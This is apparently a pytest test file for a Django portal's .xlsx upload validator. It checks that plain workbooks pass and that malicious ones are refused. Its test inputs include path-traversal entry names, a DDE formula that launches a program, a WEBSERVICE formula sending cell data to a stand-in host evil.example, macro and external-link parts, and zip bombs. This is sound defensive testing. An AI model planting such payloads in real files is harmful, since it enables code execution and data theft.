"""What is taken and what is refused in a workbook."""

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError

from cluster_portal.files.checks import check
from cluster_portal.files.inspection import packages, workbooks
from cluster_portal.files.kinds import FileKind
from cluster_portal.pages.spreadsheets import Sheet, spreadsheet
from tests.files import samples
from tests.files.samples import changed_archive, upload

SHEET = "xl/worksheets/sheet1.xml"
TYPES = "[Content_Types].xml"
RELATIONS = "xl/_rels/workbook.xml.rels"
LINK = (
    b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/%s" Target="http://evil.example/" TargetMode="External"/></Relationships>'
)


def refusal(content: bytes) -> ValidationError:
    with pytest.raises(ValidationError) as error:
        check(upload(content, "so-lieu.xlsx"), [FileKind.XLSX])
    return error.value


def with_part(name: str, content: bytes = b"x") -> bytes:
    return changed_archive(samples.workbook(), add={name: content})


def with_text(part: str, old: bytes, new: bytes) -> bytes:
    return changed_archive(samples.workbook(), replace={part: (old, new)})


@pytest.mark.parametrize("content", [samples.workbook(), spreadsheet(Sheet("Bảng", ["a"], []))])
def test_plain_workbooks_keep_every_byte(content):
    assert check(upload(content, "a.xlsx"), [FileKind.XLSX]).content == content


@pytest.mark.parametrize(
    "formula", ["=SUM(A1:A9)", '=IF(A1>1,"a|b","c")', '=HYPERLINK("https://moha.gov.vn","x")']
)
def test_ordinary_formulas_are_taken(formula):
    assert check(upload(samples.workbook(formula), "a.xlsx"), [FileKind.XLSX])


def test_a_link_to_a_page_is_taken():
    linked = with_text(RELATIONS, b"</Relationships>", LINK % b"hyperlink")
    assert check(upload(linked, "a.xlsx"), [FileKind.XLSX])


@pytest.mark.parametrize(
    "name",
    [
        "../../etc/passwd",
        "xl/../../x.xml",
        "/etc/passwd",
        "xl\\..\\x.xml",
        "C:/x.xml",
        "xl//x.xml",
        "xl/./x.xml",
        "xl/\u202egpj.xml",
        "xl/a\nb.xml",
        "XL/Workbook.xml",
    ],
)
def test_names_that_lead_elsewhere_are_refused(name):
    assert refusal(with_part(name)).code == "structure"


def test_a_link_among_the_parts_is_refused():
    target = io.BytesIO(samples.workbook())
    with zipfile.ZipFile(target, "a") as archive:
        part = zipfile.ZipInfo("xl/link.xml")
        part.external_attr = 0o120777 << 16
        archive.writestr(part, "/etc/passwd")
    assert refusal(target.getvalue()).code == "structure"


@pytest.mark.parametrize(
    "name",
    [
        "xl/vbaProject.bin",
        "xl/externalLinks/externalLink1.xml",
        "xl/activeX/activeX1.xml",
        "xl/embeddings/oleObject1.bin",
        "xl/macrosheets/sheet1.xml",
        "xl/connections.xml",
        "xl/queryTables/queryTable1.xml",
        "customUI/customUI.xml",
        "xl/a.exe",
        "docs/index.html",
    ],
)
def test_parts_that_act_are_refused(name):
    error = refusal(with_part(name))
    assert (error.code, error.messages) == ("active", [workbooks.ACTIVE])


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(
            with_text(TYPES, b"spreadsheetml.sheet.main", b"ms-excel.sheet.macroEnabled.main"),
            id="said to have macros",
        ),
        pytest.param(
            with_text(RELATIONS, b"</Relationships>", LINK % b"externalLinkPath"), id="other file"
        ),
        pytest.param(
            with_text(RELATIONS, b"</Relationships>", LINK % b"attachedTemplate"), id="template"
        ),
        pytest.param(samples.workbook("=cmd|' /C calc'!A0"), id="starts a program"),
        pytest.param(samples.workbook('=WEBSERVICE("http://evil.example/"&A1)'), id="calls out"),
    ],
)
def test_macros_links_and_calls_are_refused(content):
    assert refusal(content).code == "active"


def test_a_bomb_is_refused_before_it_is_unpacked(monkeypatch):
    bomb = with_part("xl/a.xml", bytes(50_000_000))
    monkeypatch.setattr(zipfile.ZipFile, "read", lambda *arguments: pytest.fail("unpacked"))
    assert refusal(bomb).code == "bomb"


def test_too_many_parts_are_refused():
    many = {f"xl/{number}.xml": b"" for number in range(packages.MOST_PARTS)}
    assert refusal(changed_archive(samples.workbook(), add=many)).code == "bomb"


def test_a_part_larger_than_the_list_says_is_refused():
    content = bytearray(with_part("xl/a.xml", bytes(5_000)))
    at = content.index((5_000).to_bytes(4, "little"), content.index(b"PK\x01\x02"))
    content[at : at + 4] = (10).to_bytes(4, "little")
    assert refusal(bytes(content)).code == "unreadable"


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(samples.workbook()[:-30], id="cut"),
        pytest.param(b"PK\x03\x04" + b"x" * 100, id="beginning alone"),
        pytest.param(changed_archive(samples.workbook(), drop=("xl/workbook.xml",)), id="no book"),
        pytest.param(changed_archive(samples.workbook(), drop=(TYPES,)), id="no types"),
        pytest.param(samples.workbook() + samples.HTML, id="page behind"),
        pytest.param(with_text(SHEET, b"<worksheet", b"<!DOCTYPE a><worksheet"), id="doctype"),
        pytest.param(
            changed_archive(
                samples.workbook(), add={"xl/b.xml": '<?xml version="1.0"?><a/>'.encode("utf-16")}
            ),
            id="other encoding",
        ),
        pytest.param(
            with_part("xl/b.xml", b'<?xml version="1.0" encoding="UTF-7"?><a/>'), id="UTF-7"
        ),
    ],
)
def test_what_is_no_whole_workbook_is_refused(content):
    error = refusal(content)
    assert error.messages == [workbooks.NOT_A_WORKBOOK]


def test_an_archive_with_something_before_it_is_of_no_kind():
    assert refusal(samples.HTML + samples.workbook()).code == "kind"
